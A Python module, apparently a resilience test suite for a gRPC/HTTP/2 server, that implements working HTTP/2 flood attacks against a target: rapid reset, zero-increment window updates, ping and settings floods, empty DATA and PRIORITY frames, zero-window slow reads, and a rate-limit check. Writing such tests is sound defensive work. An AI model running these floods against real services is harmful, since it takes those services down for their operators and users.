"""Floods of frames that cost their sender nothing: resets, pings, settings, empty data."""

import struct
import time

import wire
from processes import require
from second import SecondEdge
from wire import (DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                  WINDOW_UPDATE, Http2, frame)

CONNECTIONS = 4
BATCH = 500
# Fewer than these would show nothing.
LEAST_FLOODED = 20000


def _flood(context, start, batch):
  """Several connections at once; gives the frames sent, the connections made and what they got."""
  sent, made, got = 0, 0, {}
  deadline = time.monotonic() + context.seconds
  connections = []
  while time.monotonic() < deadline:
    if len(connections) < CONNECTIONS:
      connections.append(start())
      made += 1
    for connection in list(connections):
      octets, frames = batch(connection)
      if connection.send(octets, 1):
        sent += frames
      connection.receive(0.001)
      if connection.is_closed or connection.goaway is not None:
        name = "closed" if connection.goaway is None else "goaway %d" % connection.goaway
        got[name] = got.get(name, 0) + 1
        connection.close()
        connections.remove(connection)
  for connection in connections:
    connection.receive(0.2)
    for fields in connection.headers.values():
      name = "grpc " + fields["grpc-status"] if "grpc-status" in fields else "http " + fields[":status"]
      got[name] = got.get(name, 0) + 1
    got["resets"] = got.get("resets", 0) + len(connection.resets)
    connection.close()
  require(sent >= LEAST_FLOODED, "only %d frames could be sent", sent)
  return "%d frames on %d connections; %s" % (
      sent, made, ", ".join("%s: %d" % pair for pair in sorted(got.items()) if pair[1]) or "ignored")


def _streams(context, follow, body=False):
  """Requests without end, each with `follow(stream)` right behind it."""

  def batch(connection):
    block = connection.block(wire.request())
    flags = END_HEADERS | (0 if body else END_STREAM)
    pieces = []
    for _ in range(BATCH):
      stream = connection.new_stream()
      pieces += (frame(HEADERS, flags, stream, block), follow(stream))
    return b"".join(pieces), BATCH

  return _flood(context, lambda: Http2(context.target), batch)


def rapid_reset(context):
  return _streams(context, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def made_to_reset(context):
  """The other side is brought to reset what it has begun: by a window that grows by nothing."""
  return _streams(context, lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"), body=True)


def reset_with_body(context):
  """The request has begun to be forwarded when it is reset."""
  return _streams(context, lambda stream: frame(DATA, 0, stream, wire.message(b"a" * 64)) +
                  frame(RST_STREAM, 0, stream, struct.pack(">I", 8)), body=True)


def unread_answers(context):
  """Pings and settings have to be answered, and nobody reads the answers."""
  octets = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0, wire.setting(4, 65535))) * BATCH
  sent, stuck = 0, 0
  for _ in range(CONNECTIONS * 4):
    with Http2(context.target) as connection:
      deadline = time.monotonic() + context.seconds / CONNECTIONS / 4
      while time.monotonic() < deadline and connection.send(octets, 0.3):
        sent += 2 * BATCH
      stuck += connection.is_closed
  require(sent >= LEAST_FLOODED, "only %d frames could be sent", sent)
  return "%d frames; %d of %d connections no longer read or closed" % (sent, stuck, CONNECTIONS * 4)


def empty_frames(context):
  """DATA without data, and priorities of streams that never begin."""

  def start():
    connection = Http2(context.target)
    connection.open(wire.request())
    return connection

  octets = (frame(DATA, 0, 1) + frame(PRIORITY, 0, 3, struct.pack(">IB", 5, 1))) * BATCH
  return _flood(context, start, lambda connection: (octets, 2 * BATCH))


def small_windows(context):
  """Answers that nobody takes: a window of nothing, 1,000 calls on one connection, more on others."""
  connections, answers = [], {}
  for index in range(context.scale):
    connection = Http2(context.target, settings=wire.setting(wire.INITIAL_WINDOW_SIZE, 0))
    connections.append(connection)
    for _ in range(wire.calls_on(index)):
      stream = connection.open(wire.request("/grpc.health.v1.Health/Check"))
      connection.send_body(stream, wire.message(b""))
  deadline = time.monotonic() + context.seconds
  for connection in connections:
    connection.receive(max(0.01, (deadline - time.monotonic()) / len(connections)))
  for connection in connections:
    waiting = sum(1 for stream in connection.headers if not connection.is_over(stream))
    answers["waiting"] = answers.get("waiting", 0) + waiting
    connection.close()
  require(answers["waiting"] >= 100, "only %d answers wait", answers["waiting"])
  return "%d answers held back on %d connections" % (answers["waiting"], len(connections))


def too_many_a_second(context):
  """Whoever makes twice the calls that it may is served as many as it may, from the first second to
  the last, and told of the others."""
  rate, seconds, streams = 200, 3, []
  with SecondEdge(context, requests_per_second=rate) as edge, Http2(edge.target) as connection:
    started = time.monotonic()
    for number in range(2 * rate * seconds):
      streams.append(connection.open(wire.request()))
      connection.send_body(streams[-1], wire.message(b""))
      connection.receive(started + (number + 1) / (2 * rate) - time.monotonic())
    took = time.monotonic() - started
    # Without a token the server itself refuses them.
    served = [connection.answer(stream) == "grpc 16" for stream in streams]
    refused = [stream for stream, is_served in zip(streams, served) if not is_served]
    told = sum(1 for stream in refused if connection.headers[stream].get("grpc-status") == "8")
  by_second = [sum(served[at:at + 2 * rate]) for at in range(0, len(served), 2 * rate)]
  require(refused and told == len(refused), "of %d refused %d were told", len(refused), told)
  require(min(by_second) >= rate / 2 and sum(by_second) <= 1.2 * rate * (took + 1),
          "at %d a second, twice what is allowed, served by second: %s", 2 * rate, by_second)
  return "served by second: %s" % ", ".join(map(str, by_second))


ATTACKS = [
    ("rapid reset", rapid_reset),
    ("reset after data", reset_with_body),
    ("made to reset", made_to_reset),
    ("unread answers", unread_answers),
    ("empty frames", empty_frames),
    ("small windows", small_windows),
    ("too many a second", too_many_a_second),
]
